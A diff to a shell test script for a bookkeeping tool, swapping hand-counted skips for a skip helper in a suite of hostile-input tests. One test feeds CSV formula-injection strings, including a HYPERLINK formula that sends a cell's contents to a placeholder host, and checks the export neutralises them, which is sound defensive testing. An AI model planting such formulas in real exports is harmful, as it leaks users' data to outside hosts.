@@ -16,7 +16,6 @@
 HOSTILE=$ROOT/tests/hostile
 BASE=$HOSTILE/base
 export SAMLA # for the setup scripts
-nskip=0
 
 # Whatever a case directory holds besides these is a book file to install.
 is_control() {
@@ -91,8 +90,7 @@ for dir in "$HOSTILE"/*/; do
     if [ -f "$dir/unprivileged" ]; then
         PREFIX=$(unprivileged_prefix)
         if [ "$PREFIX" = none ]; then
-            ok "hostile/$name # SKIP körs som root och setpriv kan inte ta bort CAP_DAC_OVERRIDE"
-            nskip=$((nskip + 1))
+            skip "hostile/$name" "körs som root och setpriv kan inte ta bort CAP_DAC_OVERRIDE"
             continue
         fi
     fi
@@ -100,8 +98,7 @@ for dir in "$HOSTILE"/*/; do
         msg=$(cd "$work" && sh "$dir/setup" 2>&1)
         src=$?
         if [ "$src" -eq 77 ]; then
-            ok "hostile/$name # SKIP $msg"
-            nskip=$((nskip + 1))
+            skip "hostile/$name" "$msg"
             continue
         elif [ "$src" -ne 0 ]; then
             not_ok "hostile/$name: setup" "setup exited $src: $msg"
@@ -169,8 +166,7 @@ done
 book=$(mktemp -d "$TMPROOT/book.XXXXXX")
 cp -R "$BASE/." "$book/"
 if ! $SAMLA -f "$book" list --help 2>&1 | grep -q -- '--format'; then
-    ok "hostile/formula-injection # SKIP 'samla list --format csv' finns inte ännu"
-    nskip=$((nskip + 1))
+    skip "hostile/formula-injection" "'samla list --format csv' finns inte ännu"
 else
     for t in '=HYPERLINK("http://x.invalid/?"&A1;"klicka")' '+1+1' '-2+3' '@SUM(A1:A2)'; do
         run $SAMLA -f "$book" add --date 2026-01-15 --account 7690 --activity PROC \
@@ -192,4 +188,3 @@ else
     n=$(printf '%s\n' "$OUT" | grep -c '^2026:[0-9]*;2026-01-15;7690;PROC;;;-1,00;')
     expect_eq "$n" 4 "hostile/formula-injection: the negative amounts stay numbers"
 fi
-echo "# $nskip skipped"
